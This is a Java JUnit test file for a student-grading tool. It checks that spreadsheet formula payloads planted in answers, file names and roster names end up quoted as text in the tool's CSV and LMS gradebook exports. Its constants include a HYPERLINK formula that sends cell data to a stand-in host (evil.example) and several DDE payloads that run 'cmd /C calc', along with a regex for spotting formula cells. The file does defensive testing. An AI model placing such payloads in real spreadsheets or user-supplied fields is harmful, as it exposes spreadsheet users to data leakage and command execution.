package backpropgrader.stage;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Students as adversaries, CSV formula injection: typed answers, file names (unknown-student ids) and a roster name
 * that a spreadsheet would run as formulas reach grades.csv, items.csv and every LMS file only as text (a quote in
 * front), while numbers, ids and Moodle's "-" stay as they are and the classmates are graded as without them.
 */
class CsvInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String PLUS = "+1+cmd|' /C calc'!A0";
    static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";
    static final List<String> PAYLOADS = List.of(HYPERLINK, PLUS, AT, MINUS);
    /** What a spreadsheet would run: a cell starting so that is not a plain number or a lone "-". */
    private static final Pattern FORMULA = Pattern.compile("[=+\\-@\t\r].*", Pattern.DOTALL);
    private static final Pattern NUMBER = Pattern.compile("[+-]?(\\d+([.,]\\d*)?|[.,]\\d+)([eE][+-]?\\d+)?|-");

    @TempDir
    Path dir;

    @Test
    void formulasTypedNamedAndUploadedReachEveryCsvOnlyAsText() throws IOException {
        String roster = "id,name,email\ns1,Ada Lovelace,ada@uni.example\ns2,Alan Turing,alan@uni.example\n"
                + "s3,\"" + HYPERLINK.replace("\"", "\"\"") + "\",grace@uni.example\ns4,Ed Nobody,ed@uni.example\n";
        HostileClass c = new HostileClass(dir, roster.replace(HYPERLINK.replace("\"", "\"\""), "Grace Hopper"),
                roster);
        c.clean.submit("s3.json", SyntheticFiles.json("s3", c.clean.answers("s3", SyntheticAnswers.Style.CORRECT)));
        Map<String, Map<String, String>> typed = c.hostile.answers("s3", SyntheticAnswers.Style.CORRECT);
        Map<String, String> first = typed.values().iterator().next();
        List<String> keys = new ArrayList<>(first.keySet());
        for (int i = 0; i < PAYLOADS.size(); i++) {
            first.put(keys.get(i), PAYLOADS.get(i));
        }
        c.hostile.submit("s3.json", SyntheticFiles.json("s3", typed));
        c.hostile.submit(PLUS + ".json", SyntheticFiles.json(PLUS, typed));   // unknown students, by file name
        c.hostile.submit(MINUS + ".txt", SyntheticFiles.text(MINUS, typed));
        c.hostile.submit(AT + ".json", "{\"answers\": {}}");

        assertEquals(1, c.grade(), c.hostile.err + c.hostile.out);
        c.assertClassmatesUnchanged();

        Path graded = c.hostile.dir.resolve("graded");
        String items = Files.readString(graded.resolve("items.csv"));
        for (String p : PAYLOADS) {
            assertTrue(cells(graded.resolve("items.csv"), ',').contains("'" + p), p + " in items.csv:\n" + items);
        }
        List<String> grades = cells(graded.resolve("grades.csv"), ',');
        assertTrue(grades.containsAll(List.of("'" + HYPERLINK, "'" + PLUS, "'" + MINUS)), grades.toString());
        assertTrue(grades.contains("s1") && grades.contains("100.0"), "ids and numbers stay as they are");

        // No participant ids without a Moodle download, but gradebook-import.csv is written all the same.
        int moodleExit = c.hostile.run("export", "--lms", "moodle", "--max-grade", "100", graded.toString());
        assertTrue(moodleExit == 0 || moodleExit == 1, c.hostile.err);
        assertEquals(0, c.hostile.run("export", "--lms", "blackboard", "--points", "100", graded.toString()), c.hostile.err);
        assertEquals(0, c.hostile.run("export", "--lms", "blackboard", "--points", "100", "--tabs", graded.toString(), "--out",
                graded.resolve("export/blackboard-tabs").toString()), c.hostile.err);
        Path moodle = graded.resolve("export/moodle/gradebook-import.csv");
        assertTrue(cells(moodle, ',').contains("'" + HYPERLINK), Files.readString(moodle));
        assertTrue(cells(moodle, ',').contains("-"), "Moodle's '-' for no grade stays: " + Files.readString(moodle));

        try (Stream<Path> all = Files.walk(graded)) {
            for (Path csv : all.filter(p -> p.toString().endsWith(".csv") || p.toString().endsWith(".txt")).toList()) {
                char separator = csv.toString().endsWith(".txt") ? '\t' : ',';
                for (String cell : cells(csv, separator)) {
                    assertFalse(FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches(),
                            csv + " has a cell a spreadsheet would run: " + cell);
                }
            }
        }
    }

    @Test
    void aCanvasGradebookNameThatIsAFormulaIsQuotedAndTheIdsAndGradesStay() throws IOException {
        String book = Files.readString(Path.of("src/test/resources/lms/rosters/canvas-gradebook.csv"));
        GradeFixture fx = new GradeFixture(dir, book.replace("\"Hopper, Grace\"", "\"" + HYPERLINK.replace("\"",
                "\"\"") + "\""), "");
        Map<String, String> files = new LinkedHashMap<>();
        files.put("lovelaceada_340934_208490284_answers.json",
                SyntheticFiles.json("S1001", fx.answers("S1001", SyntheticAnswers.Style.CORRECT)));
        files.put("hoppergrace_340936_208490302_answers.json",
                SyntheticFiles.json("S1003", fx.answers("S1003", SyntheticAnswers.Style.SLIP)));
        Path zip = LmsDownloadGradingTest.zip(dir.resolve("submissions.zip"), files);
        assertEquals(0, fx.run("grade", zip.toString(), "--roster", fx.path("roster.csv"), "--course",
                fx.path("course.yaml"), "--out", fx.path("graded")), fx.err + fx.out);
        assertEquals(0, fx.run("export", "--lms", "canvas", fx.path("graded"), "--lms-file", fx.path("roster.csv"),
                "--title", "Backprop 1"), fx.err + fx.out);
        Path csv = dir.resolve("graded/export/canvas/gradebook-import.csv");
        List<String> cells = cells(csv, ',');
        assertTrue(cells.contains("'" + HYPERLINK), Files.readString(csv));
        assertTrue(cells.containsAll(List.of("340934", "340936", "S1001", "S1003", "Backprop 1 (4411)")),
                Files.readString(csv));
    }

    /** Every cell of a CSV file, read back with a real CSV reader. */
    static List<String> cells(Path csv, char separator) throws IOException {
        CsvMapper mapper = new CsvMapper();
        mapper.enable(CsvParser.Feature.WRAP_AS_ARRAY);
        List<String> out = new ArrayList<>();
        try (MappingIterator<List<String>> it = mapper.readerForListOf(String.class)
                .with(CsvSchema.emptySchema().withColumnSeparator(separator))
                .readValues(Files.readString(csv, StandardCharsets.UTF_8))) {
            while (it.hasNextValue()) {
                out.addAll(it.nextValue());
            }
        }
        return out;
    }
}
